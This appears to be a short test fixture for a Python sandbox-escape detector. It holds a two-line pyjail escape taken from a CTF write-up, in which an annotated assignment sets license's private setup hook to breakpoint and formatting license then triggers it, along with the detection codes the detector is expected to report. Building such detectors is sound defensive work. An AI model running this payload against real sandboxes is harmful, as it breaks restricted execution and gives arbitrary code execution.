# Escape: an annotated assignment (AnnAssign, not Assign) stores into license._Printer__setup
# Source: https://github.com/Shirajuki/shirajuki.github.io/blob/0d2837fe19c29f0a7491c28d4b270694c102d82e/src/content/blog/pyjail-cheatsheet.md (UIUCTF 2024 ASTea, @WorldWideFlags solution)
# Expect: OC101 OC401

license._Printer__setup: str = breakpoint
f"{license}"
